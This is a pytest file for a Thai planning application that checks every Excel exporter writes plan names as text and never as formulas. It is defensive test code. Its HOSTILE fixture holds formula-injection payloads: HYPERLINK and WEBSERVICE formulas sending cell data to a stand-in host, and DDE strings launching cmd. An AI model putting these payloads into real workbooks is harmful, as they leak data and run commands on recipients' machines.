"""Every cell the application writes from a plan is text: a name beginning with ``=``, ``+``, ``-`` or ``@``
never becomes a formula (``=HYPERLINK(…)`` would run when the department opens the workbook) — in every
workbook the application writes. A new exporter of workbooks is added to ``WRITERS``."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from demo_state import DEMO_TODAY
from workbook_checks import cell_formulas, texts_in

from thaplan_desktop.domain.model import PlanData
from thaplan_desktop.domain.procurement import ProcurementChoice
from thaplan_desktop.domain.thai import to_arabic_digits
from thaplan_desktop.domain.tracking import TrackingRecords, TrackingStatus
from thaplan_desktop.exporting.procurement import procurement_annex
from thaplan_desktop.exporting.xlsx import TemplateOptions, XlsxOptions, export_forms, export_template
from thaplan_desktop.exporting.xlsx.procurement import export_procurement_xlsx
from thaplan_desktop.exporting.xlsx.progress_report import export_progress_report
from thaplan_desktop.exporting.xlsx.progress_workbook import export_progress_workbook
from thaplan_desktop.tracking.report import build_report
from thaplan_desktop.workspace import NewStatus, ProcurementFields, ProjectFields, TrackingFields, Workspace

HOSTILE = {
    "strategy": '=HYPERLINK("http://example.invalid/?"&A1,"คลิก")',
    "program": "+1+1",
    "unit": "-2+3",
    "type": "@SUM(1,1)",
    "project": "=1+1",
    "details": "-cmd|' /C calc'!A0",
    "location": "@หมู่ 1",
    "problems": '=WEBSERVICE("http://example.invalid/"&A1)',
    "reason": "+cmd|' /C notepad'!A0",
    "egp_code": "=2+5",
}


@dataclass(frozen=True)
class HostilePlan:
    """The demo plan with a row whose every text looks like a formula, its tracking and procurement choices."""

    plan: PlanData
    records: TrackingRecords
    choices: list[ProcurementChoice]


WRITERS: dict[str, Callable[[HostilePlan, Path], object]] = {
    "export-xlsx": lambda h, out: export_forms(h.plan, out),
    "export-xlsx --marks fill --thai-digits": lambda h, out: export_forms(
        h.plan, out, XlsxOptions(month_marks="fill", thai_digits=True)),
    "export-template": lambda h, out: export_template(h.plan, out, HOSTILE["unit"], TemplateOptions(rows=5)),
    "export-progress": lambda h, out: export_progress_workbook(h.plan, h.records, out, HOSTILE["unit"],
                                                               today=DEMO_TODAY),
    "report progress --out": lambda h, out: export_progress_report(build_report(h.plan, h.records, DEMO_TODAY), out),
    "export-procurement": lambda h, out: export_procurement_xlsx(procurement_annex(h.plan, h.choices), out),
}
# The plan's texts each workbook must hold, as text.
EXPECTED = {
    "export-template": ("strategy", "program", "unit"),  # the drop-down lists (a hidden sheet) hold the names
    "export-progress": ("project", "details", "location", "problems"),
    "report progress --out": ("project", "unit", "reason"),
    "export-procurement": ("project", "egp_code"),
}


@pytest.fixture
def hostile_plan(demo_db: Path) -> HostilePlan:
    with Workspace.open(demo_db) as ws:
        edition = ws.find_edition().id
        ws.add_strategy(HOSTILE["strategy"])
        strategy = next(s.id for s in ws.strategies() if s.name == HOSTILE["strategy"])
        ws.add_program(strategy, HOSTILE["program"])
        program = next(p.id for p in ws.programs() if p.name == HOSTILE["program"])
        ws.add_unit(HOSTILE["unit"])
        unit = next(u.id for u in ws.units() if u.name == HOSTILE["unit"])
        changes = ws.add_project(edition, ProjectFields(
            name=HOSTILE["project"], details=HOSTILE["details"], location=HOSTILE["location"], budget=1000,
            months={1, 2}, program_id=program, unit_id=unit))
        project = changes.inserted_into("project")[0]
        ws.update_tracking(project, TrackingFields(problems=HOSTILE["problems"]), today=DEMO_TODAY)
        ws.record_status(project, NewStatus(TrackingStatus.CANCELLED, dt.date(2020, 3, 1), reason=HOSTILE["reason"]),
                         today=DEMO_TODAY)
        ws.set_procurement({project: ProcurementFields(procured=True, egp_code=HOSTILE["egp_code"])})
        plan, records = ws.progress_data(edition)
        return HostilePlan(plan, records, ws.procurement_choices(edition))


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_no_workbook_the_application_writes_holds_a_formula(hostile_plan: HostilePlan, tmp_path: Path,
                                                            writer: str) -> None:
    out = tmp_path / "out.xlsx"
    WRITERS[writer](hostile_plan, out)
    assert cell_formulas(out) == []
    texts = {to_arabic_digits(t) for t in texts_in(out)}
    keys = EXPECTED.get(writer, ("project", "details", "location"))
    found = {text for text in texts for key in keys if HOSTILE[key] in text}
    missing = [key for key in keys if not any(HOSTILE[key] in text for text in found)]
    assert missing == [], texts
